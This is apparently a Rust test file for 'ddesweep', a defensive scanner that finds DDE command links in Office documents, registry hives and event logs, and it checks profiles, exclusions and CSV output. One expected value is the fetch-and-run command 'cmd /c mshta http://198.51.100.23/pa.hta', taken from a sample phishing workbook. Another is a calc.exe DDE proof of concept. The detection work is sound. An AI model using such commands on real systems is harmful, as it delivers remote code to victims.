//! The command line: profiles, formats, exit codes, determinism across thread counts.

use serde_json::Value;

use crate::util::{ddesweep, scan, testdata};

#[test]
fn profiles_lists_the_builtin_profiles() {
    let output = ddesweep().arg("profiles").output().unwrap();
    assert_eq!(output.status.code(), Some(0));
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.starts_with("default\t"), "{stdout}");
}

fn write_profile(dir: &std::path::Path, edit: impl Fn(String) -> String) -> std::path::PathBuf {
    let text = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("profiles/default.toml"),
    )
    .unwrap();
    let path = dir.join("custom.toml");
    std::fs::write(&path, edit(text)).unwrap();
    path
}

#[test]
fn a_broken_profile_names_file_line_and_problem() {
    let dir = tempfile::tempdir().unwrap();
    let path = write_profile(dir.path(), |t| {
        t.replacen("\ntechnique = ", "\ntecnique = ", 1)
    });
    let line = std::fs::read_to_string(&path)
        .unwrap()
        .lines()
        .position(|l| l.starts_with("tecnique"))
        .unwrap()
        + 1;
    for args in [
        vec![
            "profiles".to_owned(),
            "check".to_owned(),
            path.display().to_string(),
        ],
        vec![
            "scan".to_owned(),
            testdata("documents/positive").display().to_string(),
            "-o".to_owned(),
            dir.path().join("out").display().to_string(),
            "--profile".to_owned(),
            path.display().to_string(),
        ],
    ] {
        let output = ddesweep().args(&args).output().unwrap();
        assert_eq!(output.status.code(), Some(2), "{args:?}");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(
            stderr.contains(&format!("{}:{line}:", path.display())),
            "{stderr}"
        );
        assert!(stderr.contains("tecnique"), "{stderr}");
    }
    assert!(!dir.path().join("out").exists());
}

#[test]
fn a_custom_profile_drives_detection() {
    let dir = tempfile::tempdir().unwrap();
    // Only DDEAUTO fields count, and nothing escalates.
    let path = write_profile(dir.path(), |t| {
        let t = t.replace("keywords = [\"DDE\"]", "keywords = [\"DDEX\"]");
        // The document escalation markers (the first list) match nothing; the rest stays.
        let start = t.find("markers = [").unwrap();
        let end = start + t[start..].find(']').unwrap() + 1;
        format!("{}markers = [\"never-matches\"]{}", &t[..start], &t[end..])
    });
    let check = ddesweep()
        .args(["profiles", "check"])
        .arg(&path)
        .output()
        .unwrap();
    assert_eq!(
        check.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&check.stderr)
    );
    let run = scan(
        &[
            &testdata("documents/positive/word-dde-fldsimple.docx"),
            &testdata("documents/positive/word-ddeauto-runs.docx"),
        ],
        &["--profile", path.to_str().unwrap()],
    );
    assert_eq!(
        run.commands_in("word-dde-fldsimple.docx"),
        Vec::<String>::new()
    );
    assert_eq!(
        run.commands_in("word-ddeauto-runs.docx"),
        [r#"c:\windows\system32\cmd.exe "/k calc.exe""#]
    );
    let severities: Vec<&Value> = run
        .rows
        .iter()
        .filter(|r| r["severity"] != "info")
        .map(|r| &r["severity"])
        .collect();
    assert_eq!(severities, [&Value::from("high")]);
    assert_eq!(
        run.manifest["profile"]["origin"],
        path.display().to_string()
    );
}

#[test]
fn site_exclusions_cover_documents_and_hive_settings() {
    let dir = tempfile::tempdir().unwrap();
    // The site's ERP sends links to `cmd` from mailed workbooks, and its IT sets AllowDDE.
    let path = write_profile(dir.path(), |t| {
        t + r#"
[[document.exclusions]]
id = "erp-mailed-links"
reason = "the ERP mails workbooks that link to its cmd bridge"
rules = ["ddesweep.document.dde_link"]
dde_service = ["CMD"]
path = ['\INetCache\Content.Outlook\']

[[eventlog.exclusions]]
id = "allow-dde-managed"
reason = "IT sets Word's AllowDDE on this site"
target = ['\Word\Security\AllowDDE']

[[eventlog.exclusions]]
id = "allow-dde-by-reg-exe"
reason = "never applies to hives: a hive value has no process"
image = ['reg.exe']
target = ['\Word\Security\AllowDDE']
"#
    });
    let evidence = testdata("sample-evidence");
    let default = scan(&[&evidence], &[]);
    let site = scan(&[&evidence], &["--profile", path.to_str().unwrap()]);
    let advice = "Payment_Advice.xlsx";
    assert_eq!(
        default.commands_in(advice),
        ["cmd /c mshta http://198.51.100.23/pa.hta"]
    );
    assert_eq!(site.commands_in(advice), Vec::<String>::new());
    assert_eq!(
        site.artifact(advice)["document"]["excluded"],
        serde_json::json!({"erp-mailed-links": 1})
    );
    assert_eq!(site.artifact(advice)["findings"], 0);
    // The other DDE documents stay: the condition is the link's service and the mail cache.
    assert_eq!(
        site.commands_in("Invoice_2291.docx"),
        default.commands_in("Invoice_2291.docx")
    );
    assert_eq!(
        site.artifact("Invoice_2291.docx")["document"]["excluded"],
        serde_json::json!({})
    );

    let allow_dde = |run: &crate::util::Scan| -> Vec<String> {
        run.findings()
            .into_iter()
            .filter(|(_, rule, _)| rule == "ddesweep.eventlog.word_allow_dde")
            .map(|(path, _, _)| path)
            .collect()
    };
    assert_eq!(
        allow_dde(&default),
        [
            "C/Users/alice/NTUSER.DAT",
            "C/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx",
        ]
    );
    assert_eq!(allow_dde(&site), Vec::<String>::new());
    // The Sysmon 13 record falls to the first exclusion that covers it; the hive value only to
    // the one without process conditions.
    assert_eq!(
        site.artifact("alice/NTUSER.DAT")["hive"]["excluded"],
        serde_json::json!({"allow-dde-managed": 1})
    );
    assert_eq!(
        site.artifact("Microsoft-Windows-Sysmon%4Operational.evtx")["eventlog"]["excluded"]["allow-dde-managed"],
        1
    );
    let excluded = |run: &crate::util::Scan| run.manifest["totals"]["excluded"].as_u64().unwrap();
    assert_eq!(excluded(&site), excluded(&default) + 3);
    let findings = |run: &crate::util::Scan| run.manifest["totals"]["findings"].as_u64().unwrap();
    assert_eq!(findings(&site), findings(&default) - 3);
}

#[test]
fn usage_errors_exit_with_2() {
    let output = ddesweep().args(["scan", "somewhere"]).output().unwrap();
    assert_eq!(output.status.code(), Some(2), "missing -o");
    let output = ddesweep().args(["frobnicate"]).output().unwrap();
    assert_eq!(output.status.code(), Some(2));
}

#[test]
fn csv_format_has_the_same_rows_and_columns() {
    // A private copy: other tests read testdata/ concurrently, which moves its access times.
    let private = tempfile::tempdir().unwrap();
    let folder = private.path().join("positive");
    crate::util::copy_tree(&testdata("documents/positive"), &folder);
    let jsonl = scan(&[&folder], &[]);
    let csv_run = scan(&[&folder], &["--format", "csv"]);
    assert!(!csv_run.out.path().join("timeline.jsonl").exists());
    let bytes = csv_run.output_bytes("timeline.csv");
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(header, ddesweep::output::timesketch::COLUMNS);
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), jsonl.rows.len());
    for (record, row) in records.iter().zip(&jsonl.rows) {
        assert_eq!(record.get(0), row["message"].as_str());
        assert_eq!(
            record.get(2).map(str::to_owned),
            Some(row["timestamp"].to_string())
        );
        let command_column = ddesweep::output::timesketch::COLUMNS
            .iter()
            .position(|c| *c == "command")
            .unwrap_or(usize::MAX);
        let command = record.get(command_column).unwrap_or_default();
        match row["command"].as_str() {
            // Spreadsheet-evaluable cells are neutralised with a leading quote.
            Some(c) if c.starts_with(['=', '+', '-', '@']) => assert_eq!(command, format!("'{c}")),
            Some(c) => assert_eq!(command, c),
            None => assert_eq!(command, ""),
        }
    }
    assert_eq!(csv_run.manifest["timeline"]["file"], "timeline.csv");
}
